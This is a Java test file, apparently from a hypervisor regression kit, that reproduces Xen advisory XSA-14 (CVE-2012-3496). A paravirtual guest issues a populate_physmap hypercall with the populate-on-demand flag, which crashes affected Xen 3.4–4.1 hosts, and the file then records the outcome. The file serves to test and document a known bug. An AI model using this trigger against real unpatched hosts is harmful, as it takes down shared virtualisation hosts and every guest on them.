package io.github.paravane.testkit.advisory.hypercall;

import static io.github.paravane.testkit.asm.Gpr.RAX;

import io.github.paravane.hypervisor.profiles.AbiProfiles;
import io.github.paravane.testkit.advisory.Advisory;
import io.github.paravane.testkit.advisory.BugGuest;
import io.github.paravane.testkit.advisory.GuestTrial;
import io.github.paravane.testkit.advisory.KnownBug;
import io.github.paravane.testkit.advisory.Layer;
import io.github.paravane.testkit.asm.Label;
import io.github.paravane.testkit.runtime.GuestRuntime;
import io.github.paravane.testkit.runtime.Hypercalls;

/** XSA-14: populate_physmap with the populate-on-demand flag. */
final class PopulateOnDemand {

    private static final int POPULATE = 6;
    private static final int ON_DEMAND = 1 << 16;

    private PopulateOnDemand() {}

    static KnownBug bug() {
        Advisory advisory = Advisory.of("xsa-14", Layer.HYPERCALL, "populate_physmap with the populate-on-demand flag")
                .names("XSA-14", "CVE-2012-3496", "15638f14e9")
                .mechanism("A PV guest that passes the flag for populate on demand, which is for translated guests, "
                        + "reaches an assertion of the hypervisor.")
                .construction("XENMEM_populate_physmap of one page with XENMEMF_populate_on_demand.")
                .telling("The host dies, or no extent is done.")
                .affected("3.4 to 4.1")
                .repaired("4.2 (15638f14e9)")
                .provenance("XSA-14; Xen commit 15638f14e9")
                .build();
        return new KnownBug(
                advisory,
                AbiProfiles.XEN_4_1,
                AbiProfiles.XEN_4_2,
                GuestTrial.of(BugGuest.elf(PopulateOnDemand::guest)));
    }

    private static void guest(BugGuest guest) {
        Label request = guest.label();
        Label frames = guest.label();
        guest.runtime()
                .data(() -> guest.asm()
                        .align(8)
                        .bind(request)
                        .u64(frames)
                        .u64(1)
                        .u32(0)
                        .u32(ON_DEMAND)
                        .u64(GuestRuntime.DOMID_SELF)
                        .bind(frames)
                        .u64(0));
        guest.runtime().call(Hypercalls.MEMORY_OP, POPULATE, request);
        guest.evidence("extents-done", RAX);

        guest.judge(RAX, 1, "the page was populated", 0, "nothing was populated");
    }
}
